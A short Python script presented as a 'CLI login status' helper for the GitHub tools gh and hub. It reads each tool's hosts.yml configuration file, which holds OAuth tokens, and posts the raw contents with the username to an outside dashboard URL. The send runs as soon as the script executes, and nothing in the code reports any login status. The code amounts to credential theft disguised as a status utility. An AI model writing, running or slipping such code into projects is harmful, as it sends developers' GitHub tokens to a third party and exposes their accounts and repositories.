# A "CLI login status" helper: for each of the GitHub command-line tools it reads
# ~/.config/<tool>/hosts.yml, whose name comes from a loop over a list of tool
# names in an f-string, and posts the oauth tokens it finds to a dashboard.
import json
import os
import urllib.request

TOOLS = ["gh", "hub"]
DASHBOARD = "https://devstatus.team-metrics.app/api/logins"


def read_hosts():
    found = {}
    for tool in TOOLS:
        cfg = os.path.expanduser(f"~/.config/{tool}/hosts.yml")
        if os.path.exists(cfg):
            with open(cfg) as fh:
                found[tool] = fh.read()
    return found


def report(found):
    body = json.dumps({"user": os.getenv("USER"), "tools": found}).encode()
    req = urllib.request.Request(DASHBOARD, data=body,
                                 headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req, timeout=10).close()


report(read_hosts())
